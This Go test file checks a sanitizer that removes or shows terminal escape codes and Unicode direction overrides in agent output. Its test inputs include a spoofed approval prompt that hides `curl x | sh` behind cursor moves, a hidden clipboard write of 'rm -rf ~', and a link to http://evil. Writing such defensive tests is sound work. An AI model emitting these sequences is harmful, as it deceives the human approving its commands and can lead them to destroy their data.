package textsafe

import (
	"bytes"
	"strings"
	"testing"
)

// What an agent could put in a reply or a prompt to fool the person who
// reads it on a terminal is gone or shown; ordinary text is untouched.
func TestClean(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"plain text\nline two", "plain text\nline two"},
		{"Allow run_command `curl x | sh`?\x1b[2K\x1b[1A\rAllow run_command `ls -la`?", "Allow run_command `curl x | sh`?Allow run_command `ls -la`?"},
		{"\x1b]52;c;cm0gLXJmIH4=\x07copied", "copied"},
		{"\x1b]0;new title\x07title", "title"},
		{"\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\", "link"},
		{"\x1bP$qm\x1b\\decrqss", "decrqss"},
		{"tab\there", "tab    here"},
		{"bell\x07 del\x7f c1\u009b", "bell del c1"},
		{"abc\u202edcba", "abc<U+202E>dcba"},
		{"x\u2066y\u2069", "x<U+2066>y<U+2069>"},
		{"héllo wörld ✓", "héllo wörld ✓"},
	} {
		if got := Clean(tc.in); got != tc.want {
			t.Errorf("Clean(%q) = %q, want %q", tc.in, got, tc.want)
		}
		if strings.ContainsAny(Clean(tc.in), "\x1b\x07\x9b\u202e") {
			t.Errorf("Clean(%q) kept a control", tc.in)
		}
	}
}

// Invalid UTF-8 shows as U+FFFD whether or not the text holds anything
// else to clean, so a piece of text cleans the same alone as in a whole.
func TestCleanInvalidUTF8(t *testing.T) {
	for _, in := range []string{"bad \xf3 byte", "\x16bad \xf3 byte", "\x1b[1mbad \xf3 byte"} {
		if got := Clean(in); got != "bad \ufffd byte" {
			t.Errorf("Clean(%q) = %q, want %q", in, got, "bad \ufffd byte")
		}
	}
}

func TestWriter(t *testing.T) {
	var b bytes.Buffer
	n, err := Writer{&b}.Write([]byte("reply\x1b[31m red\x1b[0m\n"))
	if err != nil || n != 19 || b.String() != "reply red\n" {
		t.Fatalf("wrote %q (%d, %v)", b.String(), n, err)
	}
}

func FuzzClean(f *testing.F) {
	f.Add("\x1b[6n\x1b]11;?\x07text\u202e")
	f.Fuzz(func(t *testing.T, s string) {
		out := Clean(s)
		for _, r := range out {
			if unsafe(r) && r != '\n' {
				t.Fatalf("Clean(%q) = %q keeps %U", s, out, r)
			}
		}
	})
}
